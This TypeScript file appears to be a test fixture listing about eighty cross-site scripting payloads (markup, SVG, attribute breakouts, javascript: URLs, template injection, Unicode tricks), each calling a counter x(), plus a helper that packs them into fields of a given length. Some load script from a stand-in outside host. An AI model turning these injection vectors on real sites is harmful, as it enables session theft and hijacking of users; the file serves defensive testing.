/**
 * What somebody may write who wants a script of theirs to run on another's screen. Each calls `x()` when it comes to life;
 * a page under test counts the calls.
 */
export const payloads: string[] = [
  // markup
  '<script>x()</script>',
  '</script><script>x()</script>',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<SCRIPT/SRC="data:text/javascript,x()"></SCRIPT>',
  '<script src=//elsewhere.example/x.js></script>',
  '<img src=x onerror=x()>',
  '<img src=x onerror="x()"//',
  '<IMG """><SCRIPT>x()</SCRIPT>">',
  '<img/src/onerror=x()>',
  '<body onload=x()>',
  '<input autofocus onfocus=x()>',
  '<select autofocus onfocus=x()><option>',
  '<details open ontoggle=x()>',
  '<video><source onerror=x()></video>',
  '<audio src=x onerror=x()>',
  '<iframe src="javascript:parent.x()"></iframe>',
  '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
  '<object data="javascript:x()"></object>',
  '<embed src="javascript:x()">',
  '<form action="javascript:x()"><button autofocus onfocus=x()>好</button></form>',
  '<base href="https://elsewhere.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:x()">',
  '<link rel=stylesheet href="data:text/css,*{background:red}">',
  '<style>@import "https://elsewhere.example/x.css";</style>',
  '<marquee onstart=x()>走</marquee>',
  '<template><img src=x onerror=x()></template>',
  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  '<textarea></textarea><img src=x onerror=x()>',
  '</title><img src=x onerror=x()>',
  '<!--<img src="--><img src=x onerror=x()>',
  '<![CDATA[<img src=x onerror=x()>]]>',
  '<table><td background="javascript:x()">',
  // svg and mathml
  '<svg onload=x()>',
  '<svg/onload=x()//',
  '<svg><script>x()</script></svg>',
  '<svg><animate onbegin=x() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:x()"><text y=20>x</text></a></svg>',
  '<math><mtext></table><img src=x onerror=x()></math>',
  '<svg><style><img src=x onerror=x()></style></svg>',
  // out of an attribute
  '" onmouseover="x()" autofocus onfocus="x()',
  "' onfocus='x()' autofocus '",
  '"><script>x()</script>',
  "'><img src=x onerror=x()>",
  '` onfocus=x() autofocus `',
  '&quot;&gt;&lt;img src=x onerror=x()&gt;',
  '&#60;img src=x onerror=x()&#62;',
  // addresses
  'javascript:x()',
  'JaVaScRiPt:x()',
  'java\tscript:x()',
  'javascript&colon;x()',
  'data:text/html,<script>x()</script>',
  'vbscript:x()',
  '//elsewhere.example/%0d%0aSet-Cookie:x=1',
  // templates, strings of script and data, markdown
  '{{constructor.constructor("x()")()}}',
  '${x()}',
  '<%= x() %>',
  '#{x()}',
  '";x();//',
  "');x();//",
  '\\";x();//',
  '{"__proto__":{"x":1}}',
  '1:{"at":"done","href":"javascript:x()"}',
  '$ACTION_ID_0',
  '[x](javascript:x())',
  '![x](x"onerror="x())',
  '<a href="javascript:x()">x</a>',
  // unicode: other widths, invisible, right to left, halves, line ends, nothing
  '＜script＞x()＜/script＞',
  '\u202e<img src=x onerror=x()>\u202c',
  '\u2066\u202e)(x\u2069',
  '\ufeff<script>x()</script>',
  '\u2028<script>x()</script>\u2029',
  '%3Cscript%3Ex()%3C/script%3E',
  '+ADw-script+AD4-x()+ADw-/script+AD4-',
  '\ud83d<script>x()</script>',
  '<scr\0ipt>x()</scr\0ipt>',
  '\u0000\u0008\u001b[31mx()',
  `${'好'.repeat(400)}<img src=x onerror=x()>`,
];

/** All of them in as few texts as a field of this length takes; what is longer than the field is left out. */
export function packed(longest: number): string[] {
  const texts: string[] = [];
  for (const one of payloads.filter(({ length }) => length <= longest)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + one.length <= longest) texts[texts.length - 1] = `${last} ${one}`;
    else texts.push(one);
  }
  return texts;
}
